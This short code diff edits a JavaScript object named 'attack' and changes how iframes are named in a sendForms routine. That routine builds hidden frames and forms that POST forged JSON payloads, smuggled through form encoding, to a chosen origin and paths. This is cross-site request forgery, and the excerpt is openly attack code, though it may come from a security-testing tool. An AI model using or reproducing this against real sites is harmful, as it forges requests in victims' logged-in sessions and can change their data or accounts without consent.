@@ -7,9 +7,10 @@ const attack = {
    */
   async sendForms({ origin, paths, enctype, begin = '{"payload":{"forged":true},"x":"' }) {
     await Promise.all(
-      paths.map((path, i) => {
+      paths.map((path) => {
         const frame = document.createElement('iframe');
-        frame.name = `frame-${i}`;
+        // Two frames of one name would be one target.
+        frame.name = `frame-${document.querySelectorAll('iframe').length}`;
         document.body.append(frame);
         const form = document.createElement('form');
         Object.assign(form, { method: 'post', action: origin + path, target: frame.name, enctype });
